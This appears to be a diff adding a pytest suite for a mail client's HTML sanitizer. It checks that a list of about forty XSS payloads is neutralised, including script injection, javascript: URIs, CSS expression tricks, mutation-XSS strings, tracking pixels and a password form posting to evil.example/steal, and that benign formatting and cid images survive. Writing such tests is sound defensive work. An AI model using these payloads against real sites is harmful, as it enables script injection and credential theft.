@@ -1,0 +1,144 @@
+"""runtime.sanitize: a hostile corpus is neutralised, benign mail formatting survives, cid images are rewritten."""
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from runtime.sanitize import attachment_url, clean_style, sanitize_html
+
+ATTACHMENTS = [{"filename": "logo image.png", "contentId": "logo@shop.example", "mimeType": "image/png"},
+               {"filename": "report.pdf", "contentId": None, "mimeType": "application/pdf"}]
+
+
+def clean(html: str) -> str:
+    return sanitize_html(html, attachments=ATTACHMENTS, message_id="65a1b2c3d4e5f60718293a4b",
+                         integration_id="inbox-1", url_prefix="/pl:imap")
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img src=x onerror="alert(1)">',
+    '<body onload="alert(1)">',
+    '<div onmouseover="alert(1)">hover</div>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">click</a>',
+    '<a href="  javascript:alert(1)">click</a>',
+    '<a href="&#106;avascript:alert(1)">click</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+    '<a href="vbscript:msgbox(1)">click</a>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<div style="width: expression(alert(1))">x</div>',
+    '<div style="background-image: url(&quot;https://track.example/p.gif&quot;)">x</div>',
+    '<div style="behavior: url(x.htc)">x</div>',
+    '<div style="-moz-binding: url(x.xml#xss)">x</div>',
+    '<div style="background:u\\72l(javascript:alert(1))">x</div>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg onload="alert(1)"><circle r="5"/></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<form action="https://evil.example/steal"><input name="password"><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<style>@import url(https://evil.example/x.css); body{background:url(javascript:alert(1))}</style>',
+    '<base href="https://evil.example/">',
+    '<img src="https://track.example/open.gif?u=42" width="1" height="1">',
+    '<img src="//track.example/open.gif">',
+    '<img srcset="https://track.example/a.gif 1x">',
+    '<table background="https://track.example/bg.gif"><tr><td>x</td></tr></table>',
+    '<video poster="https://track.example/p.gif" src="https://track.example/v.mp4"></video>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
+    '<div id="root" class="btn-primary sc-AxjAm">x</div>',
+]
+
+FORBIDDEN = re.compile(r"<script|<iframe|<object|<embed|<form|<input|<svg|<math|<style|<meta|<link|<base|<video|"
+                       r"javascript:|vbscript:|data:|expression|url\(|\son[a-z]+\s*=|track\.example|evil\.example|"
+                       r"srcset|background=|\bid=|class=", re.IGNORECASE)
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+def test_hostile_markup_is_neutralised(html: str) -> None:
+    out = clean(html)
+    assert not FORBIDDEN.search(out), out
+
+
+def test_remote_image_loses_its_source_but_keeps_its_alt_text() -> None:
+    out = clean('<p>Hi<img src="https://track.example/p.gif" alt="pixel" width="1"></p>')
+    assert "src" not in out and 'alt="pixel"' in out and out.startswith("<p>Hi<img ")
+
+
+def test_benign_formatting_links_and_tables_survive() -> None:
+    html = ('<div dir="ltr"><p style="color: #333; font-size: 14px; margin: 0 0 8px">Hello <b>Bob</b>, '
+            '<i>thanks</i> &amp; <u>regards</u></p>'
+            '<ul><li>one</li><li>two</li></ul><blockquote type="cite">quoted</blockquote>'
+            '<a href="https://shop.example/order/42?x=1&amp;y=2">your order</a> '
+            '<a href="mailto:help@shop.example">mail us</a>'
+            '<table border="0" cellpadding="4" width="100%"><tr><th align="left">Item</th>'
+            '<td colspan="2" bgcolor="#eeeeee">Shoes</td></tr></table>'
+            '<font color="red" face="Arial">sale</font><br><hr><pre>code</pre></div>')
+    out = clean(html)
+    for kept in ('<div dir="ltr">', 'style="color:#333; font-size:14px; margin:0 0 8px"', "<b>Bob</b>",
+                 "<i>thanks</i>", "&amp;", "<u>regards</u>", "<ul><li>one</li><li>two</li></ul>",
+                 '<blockquote type="cite">quoted</blockquote>',
+                 'href="https://shop.example/order/42?x=1&amp;y=2"', 'href="mailto:help@shop.example"',
+                 'rel="noopener noreferrer"', 'target="_blank"', 'cellpadding="4"', 'width="100%"',
+                 '<th align="left">Item</th>', 'colspan="2"', 'bgcolor="#eeeeee"', '<font color="red" face="Arial">',
+                 "<br>", "<hr>", "<pre>code</pre>"):
+        assert kept in out, (kept, out)
+
+
+def test_cid_images_point_at_the_attachment_route() -> None:
+    out = clean('<img src="cid:logo@shop.example" alt="Logo"><img src="CID:%3Clogo@shop.example%3E">'
+                '<img src="cid:unknown@x">')
+    url = ("/pl:imap/read-mail-attachment?messageId=65a1b2c3d4e5f60718293a4b&amp;integrationId=inbox-1"
+           "&amp;filename=logo+image.png")
+    assert out == f'<img src="{url}" alt="Logo"><img src="{url}"><img>'
+
+
+def test_attachment_url_quotes_every_part() -> None:
+    assert attachment_url("https://api.example/pl:imap/", "m 1", "i&2", "a#b?.png") == (
+        "https://api.example/pl:imap/read-mail-attachment?messageId=m+1&integrationId=i%262&filename=a%23b%3F.png")
+    assert attachment_url("", "m", "i", "f").startswith("/read-mail-attachment?")
+
+
+def test_clean_style_keeps_only_harmless_declarations() -> None:
+    assert clean_style("color: red; position: fixed; top: 0") == "color:red; top:0"
+    assert clean_style("background: url(x)") is None
+    assert clean_style("font-family: 'Segoe UI', sans-serif") == "font-family:'Segoe UI', sans-serif"
+    assert clean_style("color: red /* x */") is None
+
+
+def test_mail_client_classes_survive_others_do_not() -> None:
+    assert clean('<div class="gmail_quote sc-x btn">q</div><p class="MsoNormal">m</p>') == (
+        '<div class="gmail_quote">q</div><p class="MsoNormal">m</p>')
+
+
+def test_empty_and_plain_text() -> None:
+    assert clean("") == ""
+    assert clean("just text <3") == "just text &lt;3"
+
+
+def test_conversation_detail_serves_sanitised_html_and_keeps_the_stored_body() -> None:
+    from bson import ObjectId
+
+    from web.schema import mail_data
+
+    body = ('<div>Hi<img src="cid:logo@shop.example"><img src="https://track.example/p.gif">'
+            '<script>alert(1)</script></div><div class="gmail_quote">On Mon, Bob wrote:'
+            '<a href="javascript:alert(2)">x</a></div>')
+    doc = {"_id": ObjectId("65a1b2c3d4e5f60718293a4b"), "inboxIntegrationId": "inbox-1", "body": body,
+           "attachments": ATTACHMENTS}
+    data = mail_data(doc, "/pl:imap")
+    assert doc["body"] == body
+    for field in ("body", "newContent", "replies"):
+        assert not FORBIDDEN.search(data[field].replace('class="gmail_quote"', "")), (field, data[field])
+    assert ('src="/pl:imap/read-mail-attachment?messageId=65a1b2c3d4e5f60718293a4b&amp;integrationId=inbox-1'
+            '&amp;filename=logo+image.png"') in data["newContent"]
+    assert data["replies"].startswith('<div class="gmail_quote">On Mon, Bob wrote:')
